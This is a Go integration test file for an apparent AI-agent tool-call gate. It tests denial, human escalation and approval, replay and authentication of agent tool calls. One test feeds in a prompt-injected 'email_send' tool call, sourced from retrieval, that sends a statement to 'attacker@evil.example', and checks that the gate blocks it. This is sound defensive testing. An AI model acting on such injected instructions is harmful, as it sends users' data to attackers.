package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/actgate/actgate/internal/ef"
	"github.com/actgate/actgate/internal/fileutil"
	"github.com/actgate/actgate/internal/hostloop"
	"github.com/actgate/actgate/internal/journal"
	"github.com/actgate/actgate/internal/sink"
	"github.com/actgate/actgate/internal/standalone"
)

// startHostLoopGate is startTestGate with extra configuration appended (limits).
func startHostLoopGate(t *testing.T, extra string) *testGate {
	t.Helper()
	g := startTestGate(t)
	if extra == "" {
		return g
	}
	g.stop()
	b, err := os.ReadFile(g.cfgFile)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(g.cfgFile, append(b, extra...), 0o600); err != nil {
		t.Fatal(err)
	}
	g.start()
	return g
}

// host is the host loop of agent demo-agent against g, with its token.
func (g *testGate) host() *hostLoopClient {
	g.t.Helper()
	tok, err := fileutil.ReadToken(g.cfg.AgentTokenPath(g.cfg.Agent.Name))
	if err != nil {
		g.t.Fatal(err)
	}
	return &hostLoopClient{base: g.base, token: tok, http: &http.Client{}}
}

func (g *testGate) alice() *apiClient {
	g.t.Helper()
	tok, err := standalone.ReadPrivate(g.cfg.PrincipalTokenPath("alice"))
	if err != nil {
		g.t.Fatal(err)
	}
	return &apiClient{server: g.base, principal: "alice", token: strings.TrimSpace(string(tok)), http: &http.Client{}}
}

func (g *testGate) pendingMoments() []sink.Moment {
	g.t.Helper()
	ms, err := g.rt.Gate().Moments(context.Background(), sink.MomentFilter{Pending: true})
	if err != nil {
		g.t.Fatal(err)
	}
	return ms
}

// toolUse is an Anthropic Messages tool_use block as the API returns it.
func toolUse(id, name, input string) json.RawMessage {
	return json.RawMessage(fmt.Sprintf(`{"type":"tool_use","id":%q,"name":%q,"input":%s}`, id, name, input))
}

// TestServeHostLoopEscalation is the host-loop hand-off through a real `actgate serve` and a
// real upstream: a deny (vendor-shaped, nothing run), an escalation the host polls by
// re-enforcing the same block in the same session (the same BindingMoment every time, no new
// one), alice's resolution, one allow (the host runs the tool: the upstream's count is 1), the
// outcome reported, and a re-enforce answered replayed with the recorded result, never allowed
// again.
func TestServeHostLoopEscalation(t *testing.T) {
	g := startTestGate(t)
	h := g.host()
	ctx := context.Background()
	const session = "conv-1"

	d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: session, Provenance: "retrieval",
		Block: toolUse("toolu_01", "email_send", `{"to":"attacker@evil.example","subject":"statement"}`)})
	if err != nil || d.Allow || d.Code != ef.EFInstructionProvenanceFailure || d.OperationID != "" {
		t.Fatalf("injected email: %+v %v", d, err)
	}
	var deny struct {
		Type      string `json:"type"`
		ToolUseID string `json:"tool_use_id"`
		IsError   bool   `json:"is_error"`
	}
	if err := json.Unmarshal(d.Deny, &deny); err != nil || deny.Type != "tool_result" || deny.ToolUseID != "toolu_01" || !deny.IsError ||
		!strings.Contains(string(d.Deny), string(ef.EFInstructionProvenanceFailure)) {
		t.Fatalf("deny %s %v", d.Deny, err)
	}

	pay := toolUse("toolu_02", "send_payment", `{"to":"bob","amount":250}`)
	req := hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: session, Provenance: "user", Block: pay}
	esc, err := h.enforce(ctx, req)
	if err != nil || esc.Allow || esc.Code != ef.EFEscalationRequired || len(esc.BindingMoments) != 1 || esc.EnvelopeDigest == "" || len(esc.BindingMoment) == 0 {
		t.Fatalf("escalation: %+v %v", esc, err)
	}
	// Polling: the same block in the same session is the same moment, never a new one.
	for i := range 3 {
		again, err := h.enforce(ctx, req)
		if err != nil || again.Allow || again.Code != ef.EFEscalationRequired || len(again.BindingMoments) != 1 ||
			again.BindingMoments[0] != esc.BindingMoments[0] || again.EnvelopeDigest != esc.EnvelopeDigest {
			t.Fatalf("poll %d: %+v %v", i, again, err)
		}
	}
	if ms := g.pendingMoments(); len(ms) != 1 || ms[0].ID != esc.BindingMoments[0] {
		t.Fatalf("pending moments after polling: %d", len(ms))
	}
	if n := g.up.Count("send_payment"); n != 0 {
		t.Fatalf("upstream ran send_payment %d times before the resolution", n)
	}

	a := g.alice()
	m, err := a.moment(ctx, esc.BindingMoments[0])
	if err != nil {
		t.Fatal(err)
	}
	rr, err := a.resolve(ctx, m.ID, fmt.Appendf(nil, `{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, m.EnvelopeDigest))
	if err != nil || rr.AuthorityID == "" {
		t.Fatalf("resolve: %+v %v", rr, err)
	}

	run, err := h.enforce(ctx, req)
	if err != nil || !run.Allow || run.AuthorityID != rr.AuthorityID || run.OperationID == "" || run.State != journal.StateDispatchPending {
		t.Fatalf("after the resolution: %+v %v", run, err)
	}
	result, err := runTool(ctx, g.up.URL, http.DefaultClient, "send_payment", json.RawMessage(`{"to":"bob","amount":250}`))
	if err != nil {
		t.Fatal(err)
	}
	cr, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostExecuted, Result: result})
	if err != nil || cr.State != journal.StateExecuted || cr.OperationID != run.OperationID {
		t.Fatalf("complete: %+v %v", cr, err)
	}
	rec, err := g.rt.Store().Record(ctx, run.OperationID)
	if err != nil || rec.State != journal.StateExecuted || rec.EvidenceDigest != sink.EvidenceDigest(result) {
		t.Fatalf("journal: %+v %v", rec, err)
	}
	// The host retries the block (a restarted turn): the recorded result, not run again.
	for range 2 {
		re, err := h.enforce(ctx, req)
		if err != nil || re.Allow || !re.Replayed || string(re.Result) != string(result) || re.OperationID != run.OperationID {
			t.Fatalf("replay: %+v %v", re, err)
		}
	}
	if _, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostFailed}); err == nil ||
		!strings.Contains(err.Error(), string(hostloop.CodeSettled)) {
		t.Fatalf("second complete: %v", err)
	}
	// Another session's identical block needs its own moment: the authority was single-use.
	other, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "conv-2", Provenance: "user", Block: pay})
	if err != nil || other.Allow || other.Code != ef.EFEscalationRequired || other.BindingMoments[0] == esc.BindingMoments[0] {
		t.Fatalf("other session: %+v %v", other, err)
	}
	if n := g.up.Count("send_payment"); n != 1 {
		t.Fatalf("upstream ran send_payment %d times, want 1", n)
	}
}

// TestServeHostLoopAuthentication: serve authenticates a host loop as an MCP agent; without
// the agent's token, or with a wrong one (a principal's), nothing is enforced.
func TestServeHostLoopAuthentication(t *testing.T) {
	g := startTestGate(t)
	ctx := context.Background()
	body := `{"vendor":"anthropic","session":"s","block":{"type":"tool_use","id":"toolu_1","name":"send_payment","input":{"to":"bob","amount":1}}}`
	for _, tc := range []struct{ name, token string }{
		{"no token", ""},
		{"wrong token", "not-a-token"},
		{"a principal's token", g.alice().token},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, path := range []string{hostloop.EnforcePath, hostloop.CompletePath} {
				c := &hostLoopClient{base: g.base, token: tc.token, http: &http.Client{}}
				status, b, err := c.post(ctx, path, []byte(body))
				var e hostloop.ErrorResponse
				if err != nil || status != http.StatusUnauthorized || json.Unmarshal(b, &e) != nil || e.Error.Code != hostloop.CodeUnauthenticated {
					t.Fatalf("%s: HTTP %d %s %v", path, status, b, err)
				}
			}
		})
	}
	if ms := g.pendingMoments(); len(ms) != 0 {
		t.Fatalf("an unauthenticated enforce raised %d moments", len(ms))
	}
	if n := g.up.Count(""); n != 0 {
		t.Fatalf("upstream ran %d calls", n)
	}
}

// TestServeHostLoopPendingBound: the calls under way are bounded per agent and in total
// (limits.hostLoopCallsPerAgent, limits.hostLoopCalls): at the bound /v1/enforce answers 429 HOSTLOOP_PENDING_LIMIT
// and enforces nothing; completing the call under way frees the slot.
func TestServeHostLoopPendingBound(t *testing.T) {
	for _, limit := range []string{"hostLoopCallsPerAgent", "hostLoopCalls"} {
		t.Run(limit, func(t *testing.T) { testPendingBound(t, "limits:\n  "+limit+": 1\n") })
	}
}

func testPendingBound(t *testing.T, limits string) {
	g := startHostLoopGate(t, limits)
	h := g.host()
	ctx := context.Background()
	req := hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s1", Provenance: "user",
		Block: toolUse("toolu_1", "send_payment", `{"to":"bob","amount":250}`)}
	esc, err := h.enforce(ctx, req)
	if err != nil || esc.Code != ef.EFEscalationRequired {
		t.Fatalf("escalation: %+v %v", esc, err)
	}
	a := g.alice()
	m, err := a.moment(ctx, esc.BindingMoments[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.resolve(ctx, m.ID, fmt.Appendf(nil, `{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, m.EnvelopeDigest)); err != nil {
		t.Fatal(err)
	}
	run, err := h.enforce(ctx, req)
	if err != nil || !run.Allow {
		t.Fatalf("allow: %+v %v", run, err)
	}
	// The dispatch awaits its outcome: the agent's one slot is taken.
	_, err = h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s2", Provenance: "user",
		Block: toolUse("toolu_2", "send_payment", `{"to":"carol","amount":5}`)})
	if err == nil || !strings.Contains(err.Error(), "HTTP 429 "+string(hostloop.CodePendingLimit)) {
		t.Fatalf("at the bound: %v", err)
	}
	if ms := g.pendingMoments(); len(ms) != 0 {
		t.Fatalf("a call refused at the bound raised %d moments", len(ms))
	}
	if _, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostExecuted}); err != nil {
		t.Fatal(err)
	}
	if d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s3", Provenance: "user",
		Block: toolUse("toolu_3", "get_balance", `{"account":"main"}`)}); err != nil || !d.Allow {
		t.Fatalf("after the outcome: %+v %v", d, err)
	}
}
